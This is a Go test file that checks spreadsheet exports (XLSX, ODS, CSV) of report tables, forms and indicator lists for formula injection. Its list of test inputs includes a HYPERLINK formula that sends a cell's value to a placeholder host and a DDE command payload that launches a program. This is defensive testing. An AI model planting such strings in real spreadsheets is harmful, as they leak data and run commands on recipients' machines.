package form_test

import (
	"bytes"
	"io"
	"strings"
	"testing"

	"loa/plan/indicator"
	"loa/report/document"
	"loa/report/form"
	"loa/sheet"
)

// begins are what a program takes for the beginning of a formula.
func begins() []string {
	return []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", `=HYPERLINK("https://x.test/?"&A1,"xem")`, "=cmd|' /C calc'!A0"}
}

// TestExports writes texts that look like formulas into everything that leaves as a workbook, and has LibreOffice save it.
func TestExports(t *testing.T) {
	t.Parallel()
	for name, write := range map[string]func(io.Writer) error{
		"a table": func(w io.Writer) error {
			s := sheet.Sheet{Name: "Bảng", Columns: []sheet.Column{{Heading: "=1+1"}}}
			for _, text := range begins() {
				s.Title, s.Lines = append(s.Title, text), append(s.Lines, sheet.Line{Cells: []string{text}})
			}
			return sheet.WriteExcel(w, sheet.Workbook{Sheets: []sheet.Sheet{s}})
		},
		"the tables of a report": func(w io.Writer) error {
			table := document.Table{Columns: []document.Column{{}}, Header: []document.Row{document.Cells("=1+1")}}
			for _, text := range begins() {
				table.Rows = append(table.Rows, document.Cells(text))
			}
			return document.WriteXLSX(w, document.Document{Body: []document.Block{{Table: &table}}})
		},
		"a form": func(w io.Writer) error {
			f := ofBaDinh(t)
			for n, text := range begins() {
				f.Indicators[n].Vietnamese, f.Indicators[n].Unit = text, text
			}
			f.UnitName, f.Code, f.Known = "=1+1", "=1+1", map[indicator.Code]indicator.Number{f.Indicators[0].Code: -1}
			return form.Write(w, f, key)
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			if err := write(&out); err != nil {
				t.Fatal(err)
			}
			noFormula(t, out.Bytes())
			noFormula(t, converted(t, out.Bytes(), ".xlsx", ".xlsx"))
			ods := converted(t, out.Bytes(), ".xlsx", ".ods")
			if content := partsOf(t, ods, "content.xml"); strings.Contains(content, "table:formula") || content == "" {
				t.Error("a formula in OpenDocument")
			}
			for file, content := range map[string][]byte{"tep.xlsx": out.Bytes(), "tep.ods": ods} {
				checkTexts(t, file, content)
			}
		})
	}
}

// TestListOfIndicators has LibreOffice open the list of indicators, whose names a city writes.
func TestListOfIndicators(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"=1+1", "+1+1", "@SUM(A1)"} {
		set, problems := indicator.Parse([]byte(strings.ReplaceAll(string(indicator.Shipped().Write()), "Số tin đăng báo", name)))
		table, err := set.WriteCSV()
		if err != nil || len(problems) > 0 {
			t.Fatal(err, problems)
		}
		if strings.Contains(partsOf(t, converted(t, table, ".csv", ".ods"), "content.xml"), "table:formula") {
			t.Errorf("%s became a formula", name)
		}
	}
}

// checkTexts wants every text in a cell as it was, and no cell with a formula.
func checkTexts(t *testing.T, file string, content []byte) {
	t.Helper()
	tables, err := sheet.Parse(t.Context(), file, content)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, table := range tables {
		for _, row := range table.Rows {
			for _, cell := range row.Cells {
				seen[cell.Text] = true
				if cell.Formula {
					t.Errorf("%s: %q is a formula", file, cell.Text)
				}
			}
		}
	}
	for _, text := range begins() {
		if text = strings.TrimSpace(text); !seen[text] {
			t.Errorf("%s: %q is not there", file, text)
		}
	}
}
